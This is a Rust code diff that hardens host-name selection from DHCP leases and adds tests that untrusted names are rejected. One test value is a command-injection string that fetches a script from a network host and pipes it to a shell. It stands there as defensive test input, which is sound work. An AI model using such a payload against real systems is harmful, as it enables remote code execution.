@@ -100,7 +100,8 @@ fn get_ready(line: &CommandLine, log: &Arc<LogRing>) -> anyhow::Result<Vec<Strin
     Ok(options(line, &online, &name, memory_bytes()))
 }
 
-/// `ka.name=`, else what the DHCP server says, else the hardware address.
+/// `ka.name=`, else what the DHCP server says, else the hardware address. Whoever answers DHCP is a stranger: what it says
+/// is taken as far as it is a host name, and `localhost` is none.
 fn choose_name(
     given: Option<&str>,
     leased: Option<&str>,
@@ -112,10 +113,12 @@ fn choose_name(
         return Ok(given.to_owned());
     }
     if let Some(leased) = leased {
-        match NodeName::new(leased) {
-            Ok(_) => return Ok(leased.to_owned()),
+        // Some servers end it with the root's dot.
+        match NodeName::new(leased.strip_suffix('.').unwrap_or(leased)) {
+            Ok(name) if name.is_nameless() => {}
+            Ok(name) => return Ok(name.as_str().to_owned()),
             Err(error) => log.push(&format!(
-                "warning: the DHCP server's name for this node, {leased}: {error}"
+                "warning: the DHCP server's name for this node is not taken: {error}"
             )),
         }
     }
@@ -218,6 +221,24 @@ mod tests {
         assert_eq!(name(None, None).unwrap(), "node-525400123456");
         let long = "x".repeat(65);
         assert_eq!(name(None, Some(&long)).unwrap(), "node-525400123456");
-        assert!(name(Some(&long), None).is_err());
+        for stranger in [
+            "n7$(curl${IFS}10.0.0.9|sh)",
+            "a b",
+            "a_b",
+            "10.0.1.9",
+            "localhost",
+            "localhost.localdomain",
+        ] {
+            assert_eq!(
+                name(None, Some(stranger)).unwrap(),
+                "node-525400123456",
+                "{stranger}"
+            );
+        }
+        assert_eq!(name(None, Some("n7.lab.")).unwrap(), "n7.lab");
+        for wrong in [long.as_str(), "a;b", "a_b"] {
+            let error = format!("{:#}", name(Some(wrong), None).unwrap_err());
+            assert!(error.contains(&format!("ka.name={wrong}")), "{error}");
+        }
     }
 }
